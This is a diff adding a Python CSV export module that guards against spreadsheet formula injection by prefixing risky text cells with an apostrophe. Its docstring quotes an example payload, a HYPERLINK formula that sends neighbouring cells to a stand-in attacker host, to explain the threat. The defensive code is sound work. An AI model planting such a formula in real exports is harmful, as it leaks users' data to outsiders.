@@ -1,0 +1,56 @@
+"""The one CSV writer of the project: every CSV export (Polis, the outcome section, the
+moderation log) is written here, so no cell can start a spreadsheet formula.
+
+A cell that starts with = + - @, a tab or a carriage return is run as a formula by Excel,
+LibreOffice and Google Sheets (CSV injection: `=HYPERLINK("http://evil.example/?x="&A1,"x")`
+sends the neighbouring cells away when clicked). Such text cells get a leading apostrophe, which
+the spreadsheet shows as text and hides; numbers are written as numbers (a vote of -1 stays -1).
+"""
+
+from __future__ import annotations
+
+import csv
+import io
+from collections.abc import Iterable, Mapping, Sequence
+from typing import Any
+
+FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
+BOM = "\ufeff"  # lets spreadsheet programs read the Chinese as UTF-8
+
+
+def safe_cell(value: Any) -> Any:
+    """The value as a spreadsheet shows it as text: text starting a formula gets a "'"."""
+    if value is None:
+        return ""
+    if isinstance(value, bool) or not isinstance(value, str | int | float):
+        value = str(value)
+    if isinstance(value, str) and value.startswith(FORMULA_START):
+        return "'" + value
+    return value
+
+
+def csv_text(
+    header: Sequence[str],
+    rows: Iterable[Sequence[Any]],
+    *,
+    bom: bool = False,
+    lineterminator: str = "\n",
+) -> str:
+    """A whole CSV file as text, every cell through `safe_cell`."""
+    buffer = io.StringIO()
+    if bom:
+        buffer.write(BOM)
+    writer = csv.writer(buffer, lineterminator=lineterminator)
+    writer.writerow([safe_cell(h) for h in header])
+    for row in rows:
+        writer.writerow([safe_cell(v) for v in row])
+    return buffer.getvalue()
+
+
+def csv_dict_text(
+    fields: Sequence[str], rows: Iterable[Mapping[str, Any]], *, lineterminator: str = "\n"
+) -> str:
+    """`csv_text` for rows given as dicts keyed by the field names."""
+    return csv_text(
+        fields, ([row.get(f, "") for f in fields] for row in rows), lineterminator=lineterminator
+    )
